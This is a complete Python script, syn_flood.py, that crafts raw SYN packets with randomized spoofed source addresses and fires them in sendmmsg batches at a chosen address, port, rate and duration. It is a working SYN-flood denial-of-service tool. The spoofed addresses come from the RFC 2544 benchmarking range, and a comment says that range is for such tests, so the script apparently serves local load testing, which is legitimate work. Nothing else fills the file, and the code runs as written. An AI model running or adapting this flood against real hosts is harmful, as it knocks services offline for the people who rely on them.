# SPDX-License-Identifier: BSD-2-Clause
"""SYNs to ADDRESS PORT from random places, RATE a second for SECONDS, through INTERFACE of this host: syn_flood.py INTERFACE
ADDRESS PORT RATE SECONDS. They leave in batches (sendmmsg). Says how many left, in what time; what the machine cannot do of
the rate within the time is not made up for."""
import ctypes
import random
import socket
import struct
import subprocess
import sys
import time

interface, address, port, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
target = next(line.split()[4] for line in subprocess.check_output(["ip", "neigh"], text=True).splitlines()
              if line.startswith(address + " ") and "lladdr" in line)
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((interface, 0))
ethernet = bytes.fromhex(target.replace(":", "")) + out.getsockname()[4] + b"\x08\x00"
dice = random.Random(1)


def total(data):
    s = sum(struct.unpack(f">{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return s ^ 0xffff


def syn():
    # 198.18.0.0/15 is for such tests (RFC 2544)
    source, to = struct.pack(">I", 0xc6120000 + dice.randrange(1 << 17)), socket.inet_aton(address)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 40, dice.randrange(65536), 0, 64, 6, 0) + source + to
    tcp = struct.pack(">HHIIBBHHH", dice.randrange(1024, 65536), port, dice.randrange(1 << 32), 0, 0x50, 2, 65535, 0, 0)
    tcp = tcp[:16] + struct.pack(">H", total(source + to + struct.pack(">HH", 6, 20) + tcp)) + tcp[18:]
    return ethernet + head[:10] + struct.pack(">H", total(head)) + head[12:] + tcp


class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]


class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]


class mmsghdr(ctypes.Structure):
    _fields_ = [("header", msghdr), ("length", ctypes.c_uint)]


BATCH = 64
frames = [syn() for _ in range(20000 // BATCH * BATCH)]
pieces = (iovec * len(frames))(*[iovec(f, len(f)) for f in frames])
messages = (mmsghdr * len(frames))()
for i in range(len(frames)):
    messages[i].header.iov = ctypes.pointer(pieces[i])
    messages[i].header.iovlen = 1
sendmmsg = ctypes.CDLL(None, use_errno=True).sendmmsg

begin, sent = time.time(), 0
while time.time() - begin < seconds and sent < rate * seconds:
    due = min(int((time.time() - begin) * rate), rate * seconds)
    while sent < due and time.time() - begin < seconds + 1:
        at = sent % len(frames)
        n = sendmmsg(out.fileno(), ctypes.byref(messages[at]), min(BATCH, len(frames) - at, due - sent), 0)
        sent += max(n, 0)
    time.sleep(0.001)
print(sent, "SYNs in", round(time.time() - begin, 1), "s")
